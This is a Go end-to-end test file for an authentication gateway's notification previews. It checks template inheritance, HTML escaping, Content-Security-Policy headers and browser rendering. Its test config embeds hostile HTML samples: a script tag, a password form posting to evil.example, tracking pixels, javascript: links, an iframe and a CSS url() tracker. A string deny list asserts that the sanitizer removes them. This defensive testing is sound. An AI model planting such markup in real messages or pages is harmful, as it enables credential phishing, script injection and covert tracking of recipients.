package e2e

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

const notifyConfig = preamble + `routes:
  - id: app
    host: app.localhost
    upstream: http://127.0.0.1:9
orgs:
  - slug: acme
    name: Acme & Sons
    email_domains: [acme.example]
    login_domain: login.acme.localhost
    connection: { type: password }
    branding:
      logo: {{DIR}}/logo.svg
      texts: { footer: "Acme IT helpdesk: extension 4242" }
    notifications:
      invitation:
        subject: "{{.Org.Name}}: you are invited"
        html: |
          <p><img src="{{.Org.LogoURL}}" alt=""> {{.Org.Name}} invites {{.User.Email}}.</p>
          <p><a href="{{.Link}}">Accept</a> within {{.Expires}}. {{.Org.Support}}</p>
          <script>alert(1)</script><form action="https://evil.example/steal"><input type="password" name="p"></form>
          <img src="https://track.example/open.gif" width="1" height="1"><a href="javascript:alert(1)" onclick="alert(2)">Details</a>
          <p style="color: #b00020; background-image: url(https://track.example/bg.gif)">Acme</p><iframe src="https://evil.example/"></iframe>
  - slug: labs
    name: Acme Labs <R&D>
    parent: acme
    email_domains: [labs.acme.example]
    notifications:
      invitation:
        text: "Welcome to {{.Org.Name}}, {{.User.Name}}: {{.Link}}"
`

// TestNotificationPreview renders an org's messages on the running
// binary's ops listener and with `gatehouse notify preview` from the same
// config: part by part inheritance from the parent, the parent's branding,
// HTML escaping, and the CLI agreeing with the server byte for byte.
func TestNotificationPreview(t *testing.T) {
	dir := t.TempDir()
	logo := `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>`
	if err := os.WriteFile(filepath.Join(dir, "logo.svg"), []byte(logo), 0o644); err != nil {
		t.Fatal(err)
	}
	g := start(t, strings.ReplaceAll(notifyConfig, "{{DIR}}", dir))

	get := func(path string) (*http.Response, string) {
		t.Helper()
		resp, err := http.Get("http://" + g.ops + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp, string(b)
	}
	resp, body := get("/notifications/labs/invitation")
	if resp.StatusCode != 200 {
		t.Fatalf("preview: %d %s", resp.StatusCode, body)
	}
	var m map[string]string
	if err := json.Unmarshal([]byte(body), &m); err != nil {
		t.Fatal(err)
	}
	login := "http://auth.localhost:" + g.port + "/.gatehouse/login?org=labs"
	// The subject and HTML are the parent's templates over the child's
	// fields; the text is the child's own; the SMS is the default.
	if m["subject"] != "Acme Labs <R&D>: you are invited" {
		t.Errorf("subject %q", m["subject"])
	}
	if m["text"] != "Welcome to Acme Labs <R&D>, Sam Example: "+login+"&token=EXAMPLE" {
		t.Errorf("text %q", m["text"])
	}
	if !strings.Contains(m["sms"], "Acme Labs <R&D>") || !strings.Contains(m["sms"], login) {
		t.Errorf("sms %q", m["sms"])
	}
	if !strings.Contains(m["html"], "Acme Labs &lt;R&amp;D&gt; invites sam@example.com") || strings.Contains(m["html"], "<R&D>") ||
		!strings.Contains(m["html"], "Acme IT helpdesk: extension 4242") || !strings.Contains(m["html"], `href="`+strings.ReplaceAll(login, "&", "&amp;")) {
		t.Errorf("html %s", m["html"])
	}
	// The org's hostile markup is gone from what would be sent; its
	// harmless parts stay.
	for _, bad := range []string{"<script", "alert", "<form", "<input", "evil.example", "track.example", "javascript:", "onclick", "<iframe", "url("} {
		if strings.Contains(m["html"], bad) {
			t.Errorf("the html part keeps %q:\n%s", bad, m["html"])
		}
	}
	if !strings.Contains(m["html"], `<p style="color: #b00020">Acme</p>`) || !strings.Contains(m["html"], "Details") {
		t.Errorf("the html part lost its harmless markup:\n%s", m["html"])
	}
	// The logo link is absolute, on the host the org's people use, and
	// Gatehouse serves it.
	src := regexp.MustCompile(`<img src="([^"]+)"`).FindStringSubmatch(m["html"])
	if src == nil || !strings.HasPrefix(src[1], "http://auth.localhost:"+g.port+"/.gatehouse/assets/b/") {
		t.Fatalf("logo %v", src)
	}
	req, _ := http.NewRequest("GET", "http://"+g.addr+strings.TrimPrefix(src[1], "http://auth.localhost:"+g.port), nil)
	req.Host = "auth.localhost:" + g.port
	lr, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	lb, _ := io.ReadAll(lr.Body)
	lr.Body.Close()
	if lr.StatusCode != 200 || string(lb) != logo {
		t.Errorf("logo fetch: %d %q", lr.StatusCode, lb)
	}

	// The parent on its login domain: its own subject, default MFA code.
	_, body = get("/notifications/acme/mfa_code")
	var mfa map[string]string
	_ = json.Unmarshal([]byte(body), &mfa)
	if !strings.Contains(mfa["subject"], "428193") || !strings.Contains(mfa["sms"], "428193") {
		t.Errorf("mfa: %v", mfa)
	}
	// The HTML preview loads and runs nothing: its CSP allows no
	// source but data: images, and the logo comes inlined.
	resp, body = get("/notifications/acme/invitation?part=html")
	const previewCSP = "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'; frame-ancestors 'none'"
	if resp.Header.Get("Content-Type") != "text/html; charset=utf-8" || resp.Header.Get("Content-Security-Policy") != previewCSP ||
		!strings.Contains(body, `href="http://login.acme.localhost:`+g.port+`/.gatehouse/login?token=EXAMPLE"`) ||
		!strings.Contains(body, `<img src="data:image/svg+xml;base64,`) || strings.Contains(body, "/.gatehouse/assets/") {
		t.Errorf("html part: %v %s", resp.Header, body)
	}
	for _, p := range []string{"/notifications/acme/invitation", "/notifications/acme/invitation?part=text"} {
		if resp, _ := get(p); resp.Header.Get("Content-Security-Policy") != "default-src 'none'; frame-ancestors 'none'" {
			t.Errorf("%s: CSP %q", p, resp.Header.Get("Content-Security-Policy"))
		}
	}
	for path, code := range map[string]int{"/notifications/nope/invitation": 404, "/notifications/acme/fax": 404, "/notifications/acme/invitation?part=pdf": 400} {
		if resp, body := get(path); resp.StatusCode != code {
			t.Errorf("%s: %d %s", path, resp.StatusCode, body)
		}
	}

	// The CLI renders from the config what the server renders from the
	// store.
	out, err := exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "labs", "--kind", "invitation", "--part", "subject").CombinedOutput()
	if err != nil || string(out) != m["subject"]+"\n" {
		t.Errorf("preview subject: %v %q", err, out)
	}
	outDir := t.TempDir()
	if out, err := exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "labs", "--out", outDir).CombinedOutput(); err != nil {
		t.Fatalf("preview --out: %v %s", err, out)
	}
	// The HTML file is the preview document: the message as sent, with
	// a CSP <meta> and the logo inlined.
	meta := `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'">`
	inlined := regexp.MustCompile(`<img src="data:image/svg\+xml;base64,[A-Za-z0-9+/=]+"`)
	for file, want := range map[string]string{"invitation.subject.txt": m["subject"], "invitation.txt": m["text"], "invitation.html": meta + m["html"], "invitation.sms.txt": m["sms"]} {
		b, err := os.ReadFile(filepath.Join(outDir, file))
		got := inlined.ReplaceAllString(string(b), `<img src="`+src[1]+`"`)
		if err != nil || got != want || file == "invitation.html" && !inlined.Match(b) {
			t.Errorf("%s: %v\n got %q\nwant %q", file, err, b, want)
		}
	}
	out, err = exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "labs", "--kind", "invitation", "--part", "html").CombinedOutput()
	if err != nil || !strings.HasPrefix(string(out), meta) || strings.Contains(string(out), "<script") {
		t.Errorf("preview html: %v %s", err, out)
	}
	if files, _ := filepath.Glob(filepath.Join(outDir, "*")); len(files) != 16 {
		t.Errorf("%d files, want 4 messages × 4 parts", len(files))
	}
	out, err = exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "nope").CombinedOutput()
	if err == nil || !strings.Contains(string(out), `no org "nope"`) {
		t.Errorf("unknown org: %v %s", err, out)
	}

	// A template that cannot render is refused when the config is loaded.
	bad := filepath.Join(dir, "bad.yaml")
	broken := strings.Replace(strings.NewReplacer("{{DIR}}", dir, "{{PORT}}", "1", "{{OPS}}", "127.0.0.1:2", "{{DATA}}", dir).Replace(notifyConfig),
		"Welcome to {{.Org.Name}}", "Welcome to {{.Org.Nmae}}", 1)
	if err := os.WriteFile(bad, []byte(broken), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err = exec.Command(binary, "config", "validate", bad).CombinedOutput()
	if err == nil || !strings.Contains(string(out), "orgs[1].notifications.invitation: notify: text:") || !strings.Contains(string(out), "Nmae") {
		t.Errorf("validate: %v %s", err, out)
	}
}

// TestBrowserNotificationPreview opens an org's HTML preview, from the
// ops listener and from `notify preview --out`, in Chromium: the logo
// shows (inlined), nothing is requested from anywhere else, and the
// template's script and form are not there.
func TestBrowserNotificationPreview(t *testing.T) {
	exe := chromium(t)
	dir := t.TempDir()
	logo := `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="#b00020"/></svg>`
	if err := os.WriteFile(filepath.Join(dir, "logo.svg"), []byte(logo), 0o644); err != nil {
		t.Fatal(err)
	}
	g := start(t, strings.ReplaceAll(notifyConfig, "{{DIR}}", dir))
	outDir := t.TempDir()
	if out, err := exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "acme", "--kind", "invitation", "--out", outDir).CombinedOutput(); err != nil {
		t.Fatalf("preview --out: %v %s", err, out)
	}
	arts := artifacts(t)
	for name, u := range map[string]string{
		"ops":  "http://" + g.ops + "/notifications/acme/invitation?part=html",
		"file": "file://" + filepath.Join(outDir, "invitation.html"),
	} {
		t.Run(name, func(t *testing.T) {
			ctx, requests := chrome(t, exe)
			if err := chromedp.Do(ctx, chromedp.Navigate(u), chromedp.WaitVisible(chromedp.CSS("img"))); err != nil {
				t.Fatal(err)
			}
			ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.querySelector("img").complete && document.querySelector("img").naturalWidth === 40 &&
				document.forms.length === 0 && document.scripts.length === 0 && document.querySelectorAll("iframe,input").length === 0`))
			if err != nil || !ok {
				t.Fatalf("the preview: logo not shown, or a form, script or frame present (%v)", err)
			}
			buf, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
			if err == nil {
				os.WriteFile(filepath.Join(arts, "notification-preview-"+name+".png"), buf, 0o644)
			}
			for _, r := range requests() {
				if r != u && !strings.HasPrefix(r, "data:") {
					t.Errorf("the preview requested %s", r)
				}
			}
		})
	}
}
